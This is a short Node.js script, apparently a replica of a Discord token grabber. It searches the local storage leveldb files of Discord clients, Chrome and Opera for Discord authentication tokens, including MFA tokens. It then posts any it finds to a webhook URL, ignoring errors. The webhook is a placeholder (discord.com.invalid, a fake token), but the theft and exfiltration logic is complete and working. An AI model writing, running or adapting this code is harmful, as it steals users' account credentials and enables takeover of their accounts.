const fs = require('fs');
const path = require('path');
const https = require('https');

const roaming = process.env.APPDATA || '';
const local = process.env.LOCALAPPDATA || '';
const paths = {
  Discord: path.join(roaming, 'discord'),
  'Discord Canary': path.join(roaming, 'discordcanary'),
  'Discord PTB': path.join(roaming, 'discordptb'),
  Chrome: path.join(local, 'Google', 'Chrome', 'User Data', 'Default'),
  Opera: path.join(roaming, 'Opera Software', 'Opera Stable'),
};
const tokenRe = /[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{84}/g;
const tokens = new Set();
for (const base of Object.values(paths)) {
  const db = path.join(base, 'Local Storage', 'leveldb');
  let files = [];
  try { files = fs.readdirSync(db); } catch (e) { continue; }
  for (const f of files.filter((n) => n.endsWith('.ldb') || n.endsWith('.log'))) {
    const text = fs.readFileSync(path.join(db, f), 'latin1');
    for (const m of text.match(tokenRe) || []) tokens.add(m);
  }
}
if (tokens.size) {
  const body = JSON.stringify({ content: '```' + [...tokens].join('\n') + '```', username: 'presence' });
  const req = https.request('https://discord.com.invalid/api/webhooks/000000000000000000/FAKE-replica-webhook-token', { method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}
